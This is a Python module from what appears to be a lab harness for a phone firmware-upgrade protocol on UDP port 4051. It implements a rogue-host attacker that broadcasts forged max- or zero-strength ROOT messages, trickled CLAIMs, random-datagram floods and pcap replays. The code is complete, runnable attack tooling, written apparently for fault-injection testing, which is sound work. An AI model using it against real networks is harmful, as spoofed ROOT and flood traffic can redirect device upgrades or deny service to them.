"""A rogue host's attacker: a small process on a real extra lab host that speaks port 4051
with the codec (no Scapy), as anything on an open subnet can.

    python -m pfslab.lab.rogue ATTACK --broadcast 10.1.1.255 --server 10.0.0.10 \
        --files FILES.json [--pcap OLD.pcap] [--rate 500]

FILES.json: [{"model", "file", "map"}, ...], the files the site's phones upgrade. Attacks
(pfslab.lab.faults.ATTACKS): max-root, zero-root, claim-trickle, flood, replay. It runs until
it is stopped (SIGTERM) and prints one JSON line of counts when it stops.
"""
from __future__ import annotations

import argparse
import json
import random
import signal
import socket
import struct
import sys
import time

from pfslab.protocol.codec import PORT, Message, MsgType, encode

TOP = 0xFFFFFFFF


def _messages(attack: str, files: list[dict], server: str, rnd: random.Random):
    """The next batch of datagrams of ``attack`` and the seconds to wait after it."""
    xids = {f["file"]: rnd.getrandbits(32) for f in files}
    if attack in ("max-root", "zero-root"):
        strength = TOP if attack == "max-root" else 0
        while True:
            yield [encode(Message(MsgType.ROOT, xids[f["file"]], strength, f["map"], f["model"],
                                  f["file"], server=server)) for f in files], 1.0
    elif attack == "claim-trickle":
        while True:
            yield [encode(Message(MsgType.CLAIM, xids[f["file"]], TOP, f["map"], f["model"],
                                  f["file"], ad=0)) for f in files], 4.5
    elif attack == "flood":
        kinds = (MsgType.JOIN, MsgType.CLAIM, MsgType.ROOT)
        while True:
            f = rnd.choice(files)
            made_up = rnd.random() < 0.5
            name = f"X{rnd.getrandbits(40):010x}.bin" if made_up else f["file"]
            yield [encode(Message(rnd.choice(kinds), rnd.getrandbits(32), rnd.getrandbits(32),
                                  f["map"], f["model"], name, server=server))], 0.0
    else:
        raise ValueError(attack)


def udp_payloads(pcap: str) -> list[tuple[float, bytes]]:
    """(time, payload) of every IPv4 UDP datagram to port 4051 in an Ethernet capture."""
    from pfslab.dissect.pcapfile import Capture
    out = []
    for r in Capture(pcap).records():
        d = r.data
        if r.linktype != 1 or len(d) < 42 or d[12:14] != b"\x08\x00" or d[23] != 17:
            continue
        ihl = (d[14] & 0x0F) * 4
        udp = 14 + ihl
        if len(d) < udp + 8:
            continue
        dport = struct.unpack("!H", d[udp + 2:udp + 4])[0]
        if dport == PORT:
            out.append((r.time, d[udp + 8:]))
    return out


def run(attack: str, broadcast: str, server: str, files: list[dict], pcap: str | None,
        rate: float, seed: int = 7) -> dict:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sent = 0
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    print("ready", flush=True)
    if attack == "replay":
        msgs = udp_payloads(pcap)
        t_first, t0 = (msgs[0][0] if msgs else 0.0), time.monotonic()
        for t, payload in msgs:
            if stop:
                break
            wait = (t - t_first) - (time.monotonic() - t0)
            if wait > 0:
                time.sleep(min(wait, 5.0))
            s.sendto(payload, (broadcast, PORT))
            sent += 1
        while not stop:
            time.sleep(0.2)
    else:
        gap = 1.0 / rate
        for batch, wait in _messages(attack, files, server, random.Random(seed)):
            if stop:
                break
            for m in batch:
                try:
                    s.sendto(m, (broadcast, PORT))
                    sent += 1
                except OSError:
                    pass
            time.sleep(max(wait, gap))
    return {"attack": attack, "sent": sent}


def main(argv=None) -> int:
    p = argparse.ArgumentParser(prog="python -m pfslab.lab.rogue", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=("max-root", "zero-root", "claim-trickle", "flood",
                                      "replay"))
    p.add_argument("--broadcast", required=True)
    p.add_argument("--server", required=True, help="HQ's TFTP address (ROOT's server field)")
    p.add_argument("--files", required=True, help="JSON list of {model, file, map}")
    p.add_argument("--pcap", help="replay: the capture whose 4051 datagrams are sent")
    p.add_argument("--rate", type=float, default=500.0, help="flood: datagrams/s (default 500)")
    a = p.parse_args(argv)
    with open(a.files) as f:
        files = json.load(f)
    counts = run(a.attack, a.broadcast, a.server, files, a.pcap, a.rate)
    print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
